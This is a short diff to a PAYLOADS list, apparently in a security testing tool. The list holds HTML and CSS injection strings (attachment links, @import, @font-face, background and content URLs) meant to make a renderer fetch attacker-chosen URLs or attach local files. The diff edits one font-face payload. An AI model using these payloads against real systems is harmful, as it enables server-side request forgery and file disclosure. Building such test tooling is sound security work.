@@ -81,7 +81,7 @@ PAYLOADS = [
     '<a rel="attachment" href="{file}">x</a>',
     '<a rel="attachment" href="{url}">x</a>',
     "<style>@import '{url}';</style>",
-    "<style>@font-face {{font-family: a; src: url({url})}} p {{font-family: a}}</style>",
+    "<style>@font-face {{font-family: a; src: url({url})}} p {{font: 9px a}}</style>",
     "<style>body {{background: url({url})}}</style>",
     "<style>li {{list-style-image: url({url})}}</style><ul><li>x</ul>",
     "<style>p:before {{content: url({url})}}</style><p>x",
